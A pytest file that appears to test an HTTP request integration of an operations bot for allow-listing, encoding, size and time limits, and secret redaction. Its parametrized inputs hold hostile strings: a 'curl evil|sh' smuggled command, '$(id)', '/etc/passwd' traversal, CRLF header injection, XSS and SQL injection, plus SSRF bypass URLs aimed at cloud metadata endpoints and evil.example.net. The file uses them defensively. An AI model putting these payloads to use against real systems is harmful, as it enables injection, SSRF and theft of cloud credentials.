"""http.request reaches what is allowed and nothing else, sends what was planned, and says what came of it."""

import asyncio
import json
from collections.abc import Mapping
from datetime import timedelta
from typing import Any

import pytest
from pydantic import ValidationError

from bot.errors import Permanent, Temporary
from bot.integrations.http.actions import Requests
from bot.integrations.http.asking import RequestParams
from bot.integrations.http.config import HttpConfig
from bot.kit.plugin import Tools
from bot.model.plan import ActionResult, Outcome, Plan
from bot.model.runbook import Risk
from bot.ports.actions import Occasion, nobody
from bot.ports.reads_only import reads_only
from bot.testing.contracts import WITHIN
from tests.integrations.http.conftest import LOOPBACK, SECRET
from tests.integrations.http_server import HttpServer, raised, says

HOSTILE = (
    "web-1; curl evil|sh", "$(id)", "../../etc/passwd", "..", ".", "a/b", "a\\b", "a?b=c#d", "@evil.example.net",
    "%2e%2e", "{{7*7}}", "<img src=x onerror=alert(1)>", "\r\nHost: evil", "\x00", "\u202e", "\u2025/\uff0e\uff0e", "é",
    "A" * 4096,    "' OR 1=1--", "\udcff", "", " ", "&admin=true", "=",
)  # fmt: skip


async def planned(requests: Requests, **params: Any) -> Plan:
    action = requests.actions()["http.request"]
    with reads_only():
        return await action.plan(RequestParams.model_validate(params), Occasion())


async def asked(requests: Requests, **params: Any) -> ActionResult:
    return await requests.actions()["http.request"].run(await planned(requests, **params), WITHIN, nobody)


async def test_a_question_arrives_as_it_was_planned(server: HttpServer, requests: Requests) -> None:
    server.script = says(200, b'{"builds": [7]}', Content_Type="application/json")
    given = {"url": f"{server.url}/api/", "path": ["cart & co", 7], "query": {"q": "a b&c=d", "deep": True}}
    plan = await planned(requests, **given)
    assert (plan.risk, plan.repeatable, plan.diff) == (Risk.READ, True, "")
    assert plan.targets == (f"{server.url}/api/cart%20%26%20co/7",)
    assert plan.places == ("host:127.0.0.1",)
    result = await asked(requests, **given)
    assert result.outcome is Outcome.SUCCEEDED
    assert result.value["json"] == {"builds": [7]}
    assert (result.value["status"], result.value["content_type"]) == (200, "application/json")
    (got,) = server.asked
    assert (got.method, got.path) == ("GET", "/api/cart%20&%20co/7?q=a+b%26c%3Dd&deep=true")
    assert got.headers["authorization"] == f"Bearer {SECRET}"


async def test_a_change_shows_what_it_sends_and_sends_just_that(server: HttpServer, requests: Requests) -> None:
    given = {"url": f"{server.url}/api/jobs/deploy", "method": "POST", "json": {"b": 'x"y', "a": 1}}
    plan = await planned(requests, **given)
    assert (plan.risk, plan.repeatable) == (Risk.WRITE, False)
    assert plan.diff == f'POST {server.url}/api/jobs/deploy\n{{"a": 1, "b": "x\\"y"}}'
    assert server.asked == []
    await asked(requests, **given)
    assert (server.asked[0].body, server.asked[0].headers["content-type"]) == (
        b'{"a": 1, "b": "x\\"y"}', "application/json",
    )  # fmt: skip
    await asked(requests, url=f"{server.url}/api/jobs", method="PUT", form={"a": "1&b=2"}, headers={"X-Why": "it"})
    assert (server.asked[1].body, server.asked[1].headers["x-why"]) == (b"a=1%26b%3D2", "it")


async def test_the_narrowest_place_says_what_may_be_done_and_with_which_secret(
    server: HttpServer, requests: Requests
) -> None:
    with pytest.raises(Permanent, match="POST is not allowed"):
        await planned(requests, url=f"{server.url}/api/other", method="POST")
    with pytest.raises(Permanent, match="GET is not allowed"):
        await planned(requests, url=f"{server.url}/api/jobs/old/1")
    given = {"url": f"{server.url}/api/jobs/old/1", "method": "DELETE"}
    assert (await planned(requests, **given)).risk is Risk.DESTRUCTIVE
    await asked(requests, **given)
    assert (server.asked[0].headers["x-token"], "authorization" in server.asked[0].headers) == (SECRET, False)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:{port}/", "http://127.0.0.1:{port}/apiary", "http://127.0.0.1:{port}/api/../secret",
        "http://127.0.0.1:{port}/api/..;/secret", "http://127.0.0.1:{port}/api/%252e%252e/x",
        "http://127.0.0.1:{port}/api/%2e%2E/secret", "http://127.0.0.1:{port}/api//x", "http://127.0.0.1:{port}/api/%2fx",
        "http://127.0.0.1:{port}/api/a%5cb", "http://127.0.0.1:{port}/api/%c0%ae%C0%AE/x", "http://127.0.0.1:{port}/api/a%0d%0ab",
        "http://127.0.0.1:{port}/api/x\\..\\y", "http://127.0.0.1:{port}/api?x=1",
        "http://127.0.0.1:{port}/api#x", "http://127.0.0.1:{port}#@evil.example.net/api", "https://127.0.0.1:{port}/api",
        "http://good@127.0.0.1:{port}/api", "http://127.0.0.1:{port}@evil.example.net/api", "http://127.0.0.1/api",
        "http://127.1:{port}/api", "http://2130706433:{port}/api", "http://0x7f.1:{port}/api", "http://[::1]:{port}/api",
        "http://[::ffff:127.0.0.1]:{port}/api", "http://localhost:{port}/api", "http://127.0.0.1\u3002evil.net/api",
        "http://169.254.169.254/api", "http://metadata.google.internal/api", "file:///etc/passwd", "gopher://127.0.0.1/api",
        "ftp://127.0.0.1:{port}/api", "//127.0.0.1:{port}/api", "http:/127.0.0.1:{port}/api", "http://", "", "api",
        " http://127.0.0.1:{port}/api", "http://127.0.0.1:{port}/api\n", "http://[::1", "http://127.0.0.1:99999/api",
    ],
)  # fmt: skip
async def test_what_is_not_allowed_by_name_is_not_reached(url: str, server: HttpServer, requests: Requests) -> None:
    with pytest.raises(Permanent) as refused:
        await planned(requests, url=url.replace("{port}", str(server.port)))
    assert refused.value.hint
    assert server.connections == 0


@pytest.mark.parametrize("text", HOSTILE)
async def test_text_from_outside_is_one_value_or_is_refused(text: str, server: HttpServer, requests: Requests) -> None:
    server.script = says(200)
    try:
        await asked(requests, url=f"{server.url}/api/jobs", path=[text])
    except Permanent:
        pass
    else:
        assert server.asked.pop().path.count("/") == 3
    await asked(requests, url=f"{server.url}/api/jobs", query={"q": text})
    path, _, query = server.asked.pop().path.partition("?")
    assert (path, query.count("="), "&" in query, "#" in query) == ("/api/jobs", 1, False, False)
    await asked(requests, url=f"{server.url}/api/jobs", method="POST", json={"q": text})
    assert json.loads(server.asked.pop().body) == {"q": text}


@pytest.mark.parametrize(
    ("status", "method", "expect", "outcome", "temporary"),
    [
        (204, "GET", [], Outcome.SUCCEEDED, False),
        (404, "GET", [], Outcome.FAILED, False),
        (404, "GET", [200, 404], Outcome.SUCCEEDED, False),
        (200, "GET", [404], Outcome.FAILED, False),
        (302, "GET", [], Outcome.FAILED, False),
        (503, "GET", [], Outcome.FAILED, True),
        (429, "POST", [], Outcome.FAILED, True),
        (409, "POST", [], Outcome.FAILED, False),
        (502, "POST", [], Outcome.UNKNOWN, True),
    ],
)
async def test_what_came_of_it(
    status: int, method: str, expect: list[int], outcome: Outcome, temporary: bool, server: HttpServer,
    requests: Requests,
) -> None:  # fmt: skip
    server.script = says(status, b"" if status == 204 else b"no\x1b[31m", Location=f"{server.url}/api/secret")
    result = await asked(requests, url=f"{server.url}/api/jobs", method=method, expect=expect)
    assert (result.outcome, result.temporary, result.value["status"]) == (outcome, temporary, status)
    assert result.text == ("" if status == 204 else "no\\x1b[31m")
    assert [one.path for one in server.asked] == ["/api/jobs"]


async def test_a_change_whose_answer_did_not_come_may_have_happened(server: HttpServer, requests: Requests) -> None:
    async def hangs_up(_: object, writer: asyncio.StreamWriter) -> None:
        writer.close()

    server.script = hangs_up
    lost = await raised(asked(requests, url=f"{server.url}/api/jobs", method="POST"))
    assert isinstance(lost, Temporary)
    assert len(server.asked) == 1
    result = await asked(requests, url=f"{server.url}/api/jobs")
    assert (result.outcome, result.temporary) == (Outcome.FAILED, True)


async def test_a_change_whose_answer_cannot_be_read_may_have_happened(server: HttpServer, tools: Tools) -> None:
    """It has arrived: what is compressed unasked, or too large, is no reason to call it undone."""
    place = {"url": server.url, "networks": LOOPBACK, "methods": ["GET", "POST"]}
    requests = Requests(config=HttpConfig.model_validate({"allow": [place], "largest_answer": 1}), tools=tools)
    for script in (says(200, b"x" * 1025), says(200, b"x", Content_Encoding="gzip")):
        server.script = script
        lost = await raised(asked(requests, url=server.url, method="POST", json={}))
        assert isinstance(lost, Permanent)
        assert (await asked(requests, url=server.url)).outcome is Outcome.FAILED


async def test_answers_are_capped_in_size_and_time(server: HttpServer, tools: Tools) -> None:
    place = {"url": server.url, "networks": LOOPBACK, "timeout": "200ms"}
    requests = Requests(config=HttpConfig.model_validate({"allow": [place], "largest_answer": 1}), tools=tools)
    server.script = says(200, b"x" * 1025)
    assert "more than 1 KiB" in (await asked(requests, url=server.url)).summary

    async def says_nothing(_: object, __: object) -> None:
        await asyncio.sleep(60)

    server.script = says_nothing
    assert "did not answer" in (await asked(requests, url=server.url)).summary
    action = requests.actions()["http.request"]
    result = await action.run(await planned(requests, url=server.url), timedelta(milliseconds=50), nobody)
    assert "within 0.05 s" in result.summary


async def test_a_name_that_leads_inside_is_not_followed_there(server: HttpServer, tools: Tools) -> None:
    url = f"http://localhost:{server.port}"
    requests = Requests(config=HttpConfig.model_validate({"allow": [{"url": url}]}), tools=tools)
    result = await asked(requests, url=url)
    assert (result.outcome, "may not reach localhost" in result.summary) == (Outcome.FAILED, True)
    assert server.connections == 0


async def test_a_secret_that_comes_back_is_not_shown(server: HttpServer, requests: Requests) -> None:
    server.script = says(401, f'{{"you sent": "{SECRET}"}}'.encode())
    result = await asked(requests, url=f"{server.url}/api")
    assert (result.outcome, SECRET in str(result)) == (Outcome.FAILED, False)


@pytest.mark.parametrize("name", ["Host", "Authorization", "cookie", "Content-Length", "Transfer-Encoding", "a b", ""])
async def test_a_runbook_sets_no_header_that_is_ours(name: str, server: HttpServer, requests: Requests) -> None:
    with pytest.raises(Permanent, match="cannot be set"):
        await planned(requests, url=f"{server.url}/api", headers={name: "x"})


@pytest.mark.parametrize(
    "params",
    [
        {"url": "http://a", "json": 1, "form": {"a": "b"}, "method": "POST"},
        {"url": "http://a", "json": 1},
        {"url": "http://a", "method": "TRACE"},
    ],
)
def test_a_step_that_makes_no_sense_is_refused(params: Mapping[str, Any]) -> None:
    with pytest.raises(ValidationError):
        RequestParams.model_validate(params)


@pytest.mark.parametrize("network", ["169.254.0.0/16", "0.0.0.0/0", "fe80::/64", "fd00:ec2::254/128", "::/0"])
def test_where_clouds_hand_out_credentials_cannot_be_named(network: str) -> None:
    with pytest.raises(ValidationError, match="hand out credentials"):
        HttpConfig.model_validate({"allow": [{"url": "http://a.example.net", "networks": [network]}]})


async def test_an_examination_asks_each_place(server: HttpServer, requests: Requests) -> None:
    server.script = says(401)
    assert [(health.ok, health.detail) for health in await requests.examine()] == [(False, "it answered 401")] * 3
    assert {one.method for one in server.asked} == {"HEAD"}
    server.script = says(404)
    assert all(health.ok for health in await requests.examine())
